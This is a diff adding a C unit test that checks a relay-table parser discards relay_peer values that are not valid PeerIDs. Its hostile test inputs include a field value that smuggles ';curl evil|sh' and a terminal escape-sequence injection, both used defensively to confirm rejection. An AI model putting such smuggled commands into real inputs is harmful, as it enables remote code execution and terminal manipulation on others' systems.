@@ -462,6 +462,35 @@ table_relays_real_node(void **state)
 	free(text);
 }
 
+/* A relay_peer that is not a PeerID is left out, as if none: it would
+   reach the records as relay_peer_id. */
+static void
+table_relays_only_peer_ids(void **state)
+{
+	static const char *const hostile[] = { "",
+	    "\\u001b]0;TITLE\\u0007" PEER_B, PEER_B ";curl evil|sh",
+	    "12D3KooW", "Qm", PEER_B PEER_B, "/p2p/" PEER_B,
+	    "12D3KooWNRmbXhUyjhq7y3nC3Ycy7ZwjPKk42r2Db4XLsFhVfz1l" };
+	struct node_peer *p = NULL;
+	char *cause = NULL, *text;
+	size_t n = 0, i;
+
+	(void)state;
+	for (i = 0; i < sizeof hostile / sizeof *hostile; i++) {
+		text = str_printf("{\"/%s\": {\"id\": \"%s\", \"relay_peer\": "
+		    "\"%s\"}, \"/%s\": {\"id\": \"%s\", \"relay_peer\": "
+		    "\"%s\"}}", PEER_A, PEER_A, hostile[i], PEER_C, PEER_C,
+		    PEER_RSA);
+		assert_int_equal(node_parse_table_relays(text, strlen(text),
+		    &p, &n, &cause), 0);
+		assert_int_equal(n, 1);
+		assert_string_equal(peer_field(p, n, PEER_A, 0), "absent");
+		assert_string_equal(peer_field(p, n, PEER_C, 0), PEER_RSA);
+		node_peers_free(p, n);
+		free(text);
+	}
+}
+
 /* GET /metrics of the real node: its counters summed by label. */
 static void
 metric_sum_real_node(void **state)
@@ -715,6 +744,7 @@ main(void)
 		cmocka_unit_test(peer_id_valid_rejects_everything_else),
 		cmocka_unit_test(peers_status_real_node),
 		cmocka_unit_test(table_relays_real_node),
+		cmocka_unit_test(table_relays_only_peer_ids),
 		cmocka_unit_test(metric_sum_real_node),
 	};
 
